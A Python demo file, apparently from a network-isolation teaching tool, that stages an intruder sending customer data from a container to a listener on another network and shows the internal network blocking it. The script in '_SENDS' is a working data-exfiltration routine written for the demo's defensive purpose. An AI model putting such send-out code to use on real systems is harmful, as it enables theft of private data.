"""What an internal network stops. The outside is a container of this machine, on a network of its own."""

from wizard.demos import OWN, Demo, Run

_OUTSIDE = """
import socket
listener = socket.create_server(("0.0.0.0", 7000))
print("ready", flush=True)
listener.settimeout(30)
while True:
    connection = listener.accept()[0]
    connection.sendall(b"thank you for " + connection.recv(100))
    connection.close()
"""
_SENDS = """
import errno, socket, sys
address, port = sys.argv[1:]
print("sending the customers' data out:", end=" ")
try:
    with socket.create_connection((address, int(port)), 8) as outside:
        outside.sendall(b"all customers")
        print("the outside says:", outside.recv(100).decode())
except OSError as error:
    none = error.errno in (errno.ENETUNREACH, errno.EHOSTUNREACH)
    print("there is no way out" if none else error.strerror or error)
"""
DEMOS = (
    Demo(
        name="data-out",
        story="Somebody who got in sends what he found to a machine of his own: here a container on another network of this host.",
        steps=(Run(_OUTSIDE, name="outside", background=True, network="outside", publishes=7000), Run(_SENDS, network=OWN, toward="outside")),
        without="thank you for all customers",
        held="there is no way out",
        facts={"ports": [{"container": 8000}]},
    ),
)
